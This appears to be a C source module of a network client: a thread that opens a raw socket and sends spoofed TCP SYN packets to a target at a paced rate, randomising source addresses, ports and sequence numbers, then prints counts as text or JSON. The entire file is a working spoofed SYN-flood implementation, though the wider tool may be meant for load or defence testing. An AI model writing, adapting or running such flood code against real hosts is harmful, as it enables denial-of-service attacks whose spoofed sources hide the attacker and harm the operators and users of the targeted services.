/* synflood: the flood thread: a raw socket, paced sendto() of spoofed SYNs, counts of what left. */
#include "synflood.h"

#include <errno.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <unistd.h>

#include "clock.h"
#include "json_out.h"
#include "parse.h"
#include "spoof.h"
#include "stop.h"
#include "synpacket.h"

/* The pacing tick: each wake-up sends what is due since the start, so the average rate is exact. */
#define FLOOD_TICK_US 1000
/* Ephemeral-looking source ports, as a real client would use. */
#define FLOOD_PORT_LOW 32768
#define FLOOD_PORT_COUNT 28232

/* xorshift32: cheap, and good enough to spread addresses, ports and sequence numbers. */
static uint32_t next_random(uint32_t *state)
{
	uint32_t x = *state;

	x ^= x << 13;
	x ^= x >> 17;
	x ^= x << 5;
	*state = x;
	return x;
}

static uint32_t random_seed(void)
{
	uint32_t seed = 0;

	if (getrandom(&seed, sizeof(seed), 0) != (ssize_t)sizeof(seed))
		seed = (uint32_t)clock_mono_us() ^ (uint32_t)getpid();
	return seed != 0 ? seed : 0x9E3779B9u;
}

int synflood_open(struct synflood *flood, const struct client_opts *opts, struct tl_err *err)
{
	memset(flood, 0, sizeof(*flood));
	flood->opts = opts;
	flood->fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (flood->fd < 0)
		return tl_errf(err, "--mode synflood: raw socket: %s (needs root or CAP_NET_RAW)", strerror(errno));
	return 0;
}

static void send_one(struct synflood *flood, uint32_t *state)
{
	const struct client_opts *opts = flood->opts;
	uint8_t packet[SYNPACKET_LEN];
	struct synpacket_fields f;

	f.source = spoof_pick(&opts->spoof, next_random(state));
	f.source_port = (uint16_t)(FLOOD_PORT_LOW + next_random(state) % FLOOD_PORT_COUNT);
	f.target = opts->target.addr;
	f.seq = next_random(state);
	f.ip_id = (uint16_t)next_random(state);
	synpacket_build(packet, sizeof(packet), &f);
	if (sendto(flood->fd, packet, sizeof(packet), 0, (const struct sockaddr *)&opts->target.addr,
		   sizeof(opts->target.addr)) == (ssize_t)sizeof(packet)) {
		flood->stats.sent++;
		return;
	}
	if (flood->stats.send_errors++ == 0)
		flood->stats.first_errno = errno;
}

static void *flood_main(void *arg)
{
	struct synflood *flood = arg;
	const struct client_opts *opts = flood->opts;
	uint32_t state = random_seed();
	int64_t start = clock_mono_us();
	int64_t done = 0;
	int64_t total = (int64_t)((double)opts->flood_rate_per_s * (double)opts->duration_us / 1e6);

	while (done < total && !client_stop_requested()) {
		int64_t elapsed = clock_mono_us() - start;
		int64_t due = (int64_t)((double)opts->flood_rate_per_s * (double)elapsed / 1e6) + 1;

		if (due > total)
			due = total;
		for (; done < due; done++)
			send_one(flood, &state);
		if (done < total)
			clock_sleep_us(FLOOD_TICK_US);
	}
	flood->stats.elapsed_us = clock_mono_us() - start;
	return NULL;
}

int synflood_start(struct synflood *flood, struct tl_err *err)
{
	int rc = pthread_create(&flood->tid, NULL, flood_main, flood);

	if (rc != 0)
		return tl_errf(err, "--mode synflood: could not start the flood thread: %s", strerror(rc));
	flood->started = 1;
	return 0;
}

int synflood_finish(struct synflood *flood, struct tl_err *err)
{
	if (flood->started)
		pthread_join(flood->tid, NULL);
	flood->started = 0;
	if (flood->fd >= 0)
		close(flood->fd);
	flood->fd = -1;
	if (flood->stats.sent == 0 && flood->stats.send_errors > 0)
		return tl_errf(err, "--mode synflood: no SYN could be sent: %s", strerror(flood->stats.first_errno));
	return 0;
}

void synflood_print_text(FILE *out, const struct client_opts *opts, const struct synflood_stats *stats)
{
	char elapsed[32];

	format_duration_us(stats->elapsed_us, elapsed, sizeof(elapsed));
	fprintf(out, "  SYN flood: %lld SYNs from %s at %ld/s in %s, never completed", (long long)stats->sent,
		opts->spoof.text, opts->flood_rate_per_s, elapsed);
	if (stats->send_errors > 0)
		fprintf(out, "; %lld sends failed (%s)", (long long)stats->send_errors, strerror(stats->first_errno));
	fputc('\n', out);
}

void synflood_print_json(FILE *out, const struct client_opts *opts, const struct synflood_stats *stats)
{
	json_out_key(out, "synflood", 0);
	fputc('{', out);
	json_out_key(out, "spoof", 1);
	json_out_string(out, opts->spoof.text);
	json_out_key(out, "rate_per_s", 0);
	json_out_int(out, opts->flood_rate_per_s, 0);
	json_out_key(out, "sent", 0);
	json_out_int(out, stats->sent, 0);
	json_out_key(out, "send_errors", 0);
	json_out_int(out, stats->send_errors, 0);
	json_out_key(out, "elapsed_us", 0);
	json_out_int(out, stats->elapsed_us, 0);
	fputc('}', out);
}
